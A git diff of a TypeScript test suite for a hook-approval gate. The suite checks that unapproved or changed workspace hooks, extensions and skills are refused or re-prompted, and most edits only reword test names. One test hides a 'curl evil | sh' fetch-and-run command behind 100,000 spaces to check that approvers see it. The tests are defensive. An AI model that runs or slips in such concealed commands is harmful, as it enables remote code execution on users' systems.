@@ -6,7 +6,7 @@ import type { TrustItem } from '../../src/trust/item.js';
 import { script, write } from '../support/process/scratch.js';
 import { allowed, attempt, makeExtension, makePlace, verified } from '../support/trust/place.js';
 
-test('C1, C26: without an approver a hook of the workspace is denied, with the reason; nothing is stored and nothing runs', async () => {
+test('C1, C26: without an approver a workspace hook is denied with a reason, and nothing is stored or run', async () => {
   const place = makePlace();
   const marker = join(place.root, 'ran');
   write(place.hookPath, `#!/bin/sh\ntouch ${marker}\n`, 0o755);
@@ -18,7 +18,7 @@ test('C1, C26: without an approver a hook of the workspace is denied, with the r
   expect([existsSync(place.storePath), existsSync(marker)]).toEqual([false, false]);
 });
 
-test('a store whose file never counts makes no endless question', async () => {
+test('a store that loses approvals does not cause endless prompts', async () => {
   const place = makePlace();
   const gate = place.gate();
   gate.store.list = async () => [];
@@ -27,9 +27,9 @@ test('a store whose file never counts makes no endless question', async () => {
   expect(place.asked).toHaveLength(1);
 });
 
-describe('C2: no answer that counts is a no, which is remembered and not stored, where the approver', () => {
+describe('C2: only `true` approves, and a refusal is remembered but not stored, if the approver', () => {
   const approvers: [string, string, () => unknown][] = [
-    ['says no', 'declined', () => false],
+    ['returns false', 'declined', () => false],
     [
       'throws',
       'approver-failed',
@@ -63,7 +63,7 @@ describe('C2: no answer that counts is a no, which is remembered and not stored,
   });
 });
 
-test('the approver is told when nobody waits for the answer any more', async () => {
+test('the signal of the approver aborts at the time limit', async () => {
   const place = makePlace();
   let seen: AbortSignal | undefined;
   const gate = place.gate({
@@ -79,7 +79,7 @@ test('the approver is told when nobody waits for the answer any more', async () 
   expect(seen?.aborted).toBe(true);
 });
 
-test('C3: approved once, it runs twice with one question, and in a new process with none', async () => {
+test('C3: an approved hook runs twice after one prompt, and in a new process without a prompt', async () => {
   const place = makePlace();
   const gate = place.gate();
 
@@ -88,7 +88,7 @@ test('C3: approved once, it runs twice with one question, and in a new process w
   expect(place.asked).toHaveLength(1);
 });
 
-test('concurrent callers share one question', async () => {
+test('concurrent callers share one prompt', async () => {
   const place = makePlace();
   let questions = 0;
   const approve = async () => {
@@ -104,7 +104,7 @@ test('concurrent callers share one question', async () => {
   expect(questions).toBe(1);
 });
 
-test('C4: after one byte of the script has changed it is asked again, and the old decision does not run', async () => {
+test('C4: after a change of one byte the user is asked again, and the old decision is invalid', async () => {
   const place = makePlace();
   const gate = place.gate();
   const decision = allowed(await gate.authorize(place.hook()));
@@ -117,7 +117,7 @@ test('C4: after one byte of the script has changed it is asked again, and the ol
   expect(place.asked[1]?.previousScripts?.['hooks/lint.sh']).not.toBe(place.asked[1]?.scripts['hooks/lint.sh']);
 });
 
-test('the old content is not trusted any more once the new one is', async () => {
+test('the old content needs a new approval after other content was approved', async () => {
   const place = makePlace();
   const gate = place.gate();
   await gate.authorize(place.hook());
@@ -128,7 +128,7 @@ test('the old content is not trusted any more once the new one is', async () => 
   expect(place.asked.map(({ why }) => why)).toEqual(['new', 'changed', 'changed']);
 });
 
-test('never approved and approved before are told apart', async () => {
+test('a denial tells an item that was never approved from one that was approved before', async () => {
   const place = makePlace();
   await place.gate().authorize(place.hook());
   const gate = place.gate({ approve: undefined });
@@ -145,13 +145,13 @@ test('never approved and approved before are told apart', async () => {
   expect(await gate.authorize(place.hook())).toMatchObject({ reason: 'no-executable', approvedBefore: true });
 });
 
-describe('C5: it is asked again where nothing changed but', () => {
+describe('C5: the user is asked again after a change of', () => {
   const changes: [string, Partial<TrustItem>][] = [
     ['the arguments', { args: ['--all'] }],
     ['the order of the arguments', { args: ['2', '1'] }],
     ['the environment', { env: { A: '2' } }],
-    ['the variables that it reads', { reads: ['TOKEN'] }],
-    ['the folder', { cwd: 'hooks' }],
+    ['the variables to read', { reads: ['TOKEN'] }],
+    ['the working directory', { cwd: 'hooks' }],
     ['the shell', { command: 'sh ./hooks/lint.sh', shell: true }],
     ['the extension', { extension: 'other' }],
     ['the kind', { kind: 'mcp-server' }],
@@ -180,7 +180,7 @@ describe('C5: it is asked again where nothing changed but', () => {
   });
 });
 
-test('the order of keys, and what is undefined, changes nothing', async () => {
+test('the order of keys and undefined members do not change the fingerprint', async () => {
   const place = makePlace();
   const gate = place.gate();
   await gate.authorize(place.hook({ env: { A: '1', B: '2' }, details: { a: { b: 1, c: 2 }, d: undefined } }));
@@ -189,7 +189,7 @@ test('the order of keys, and what is undefined, changes nothing', async () => {
   expect(place.asked).toHaveLength(1);
 });
 
-test('C6: a helper that changed in an extension is asked about, though the script did not', async () => {
+test('C6: a changed helper file in an extension package needs a new approval', async () => {
   const place = makePlace();
   const { item, helper } = makeExtension(place);
   const gate = place.gate();
@@ -200,7 +200,7 @@ test('C6: a helper that changed in an extension is asked about, though the scrip
   expect(place.asked.map(({ why }) => why)).toEqual(['new', 'changed']);
 });
 
-test('C7: a script replaced by a link to the same bytes elsewhere is refused', async () => {
+test('C7: a script replaced by a link to the same bytes outside is refused', async () => {
   const place = makePlace();
   const gate = place.gate();
   const decision = allowed(await gate.authorize(place.hook()));
@@ -212,7 +212,7 @@ test('C7: a script replaced by a link to the same bytes elsewhere is refused', a
   expect(await gate.authorize(place.hook())).toMatchObject({ allowed: false, reason: 'outside' });
 });
 
-test('C10: a script that is gone, or cannot be read, is refused', async () => {
+test('C10: a missing or unreadable script is refused', async () => {
   const place = makePlace();
   const gate = place.gate();
   const item = place.hook({ command: 'sh', args: ['hooks/lint.sh'], files: ['hooks/lint.sh'] });
@@ -224,7 +224,7 @@ test('C10: a script that is gone, or cannot be read, is refused', async () => {
   rmSync(place.hookPath);
   script(place.hookPath, '#!/bin/sh\necho good\n');
   chmodSync(place.hookPath, 0o111);
-  // The superuser reads everything: this test then runs as nobody.
+  // root can read every file, so this part runs as another user.
   const asNobody = process.geteuid?.() === 0;
   if (asNobody) {
     for (const path of [place.root, join(place.root, 'home'), place.stateDir]) chmodSync(path, 0o777);
@@ -238,7 +238,7 @@ test('C10: a script that is gone, or cannot be read, is refused', async () => {
   }
 });
 
-test('C12: what lies in the workspace by name or by place is the workspace’s, whatever it is called', async () => {
+test('C12: an item in the workspace, as named or through a link, has the scope workspace', async () => {
   const place = makePlace();
   const gate = place.gate({ approve: undefined });
   const inWorkspace = makeExtension(place);
@@ -255,7 +255,7 @@ test('C12: what lies in the workspace by name or by place is the workspace’s, 
   expect(await scopeOf(join(place.workspaceDir, '.app', 'extensions', 'linked'))).toBe('workspace');
 });
 
-test('C15: the same repository at another path is not trusted', async () => {
+test('C15: a clone of the repository at another path is not trusted', async () => {
   const place = makePlace();
   await place.gate().authorize(place.hook());
   const clone = join(place.root, 'clone');
@@ -267,7 +267,7 @@ test('C15: the same repository at another path is not trusted', async () => {
   expect(decision).toMatchObject({ allowed: false, reason: 'no-approver', approvedBefore: false });
 });
 
-test('C19: one name in two files, and names that look alike when joined, are two items', async () => {
+test('C19: the same name in two files, and names that are equal when joined, are different items', async () => {
   const place = makePlace();
   const gate = place.gate();
   const other = write(join(place.workspaceDir, '.app', 'more.json'), '{}');
@@ -285,7 +285,7 @@ test('C19: one name in two files, and names that look alike when joined, are two
   expect(await gate.store.list()).toHaveLength(5);
 });
 
-test('C21: without an approver only the digests that the host lists are allowed', async () => {
+test('C21: without an approver only the digests in `allow` are allowed', async () => {
   const place = makePlace();
   const headless = place.gate({ approve: undefined });
   const { digest } = await headless.authorize(place.hook());
@@ -298,7 +298,7 @@ test('C21: without an approver only the digests that the host lists are allowed'
   expect(await attempt(listed, place.hook())).toBe('no-approver');
 });
 
-test('C25: the approver gets the whole of a long command, the files and the names of variables, as plain data', async () => {
+test('C25: the approver gets the complete command line, the files and the variable names as plain data', async () => {
   const place = makePlace();
   const payload = `${' '.repeat(100_000)}; curl evil | sh`;
 
@@ -316,7 +316,7 @@ test('C25: the approver gets the whole of a long command, the files and the name
   expect(JSON.parse(JSON.stringify(request))).toEqual({ ...request, previousScripts: undefined });
 });
 
-test('what an approver does to the request changes nothing', async () => {
+test('an approver cannot change the item', async () => {
   const place = makePlace();
   const gate = place.gate({
     approve: (request) => {
@@ -328,7 +328,7 @@ test('what an approver does to the request changes nothing', async () => {
   expect(await attempt(gate, place.hook())).toBe('good');
 });
 
-test('a revoked approval ends at once, also for a decision that was made before', async () => {
+test('a revoked approval ends at once, also for an earlier decision', async () => {
   const place = makePlace();
   const decision = allowed(await place.gate().authorize(place.hook()));
 
@@ -339,7 +339,7 @@ test('a revoked approval ends at once, also for a decision that was made before'
   expect(await gate.revoke(decision.digest ?? '')).toBe(0);
 });
 
-test('a skill is bound and copied like a hook, though nothing of it is started', async () => {
+test('a skill has a fingerprint and a copy like a hook, but no command', async () => {
   const place = makePlace();
   const root = join(place.workspaceDir, 'skills', 'sail');
   const page = write(join(root, 'SKILL.md'), 'how to sail');
@@ -367,12 +367,12 @@ test.each([
   expect((await place.gate({ approve: undefined }).authorize(place.hook(more))).allowed).toBe(false);
 });
 
-test('a message is one line, whatever the name', async () => {
+test('a message stays on one line whatever the name of the item is', async () => {
   const place = makePlace();
 
   const decision = await place.gate({ approve: undefined }).authorize(place.hook({ name: 'a\n\u001b[2Kb' }));
 
   expect(decision).toMatchObject({
-    message: String.raw`The hook "a\n\u001b[2Kb" may not be used: it was not approved, and there is nobody to ask.`,
+    message: String.raw`The hook "a\n\u001b[2Kb" may not be used: it is not approved, and no approver is set.`,
   });
 });
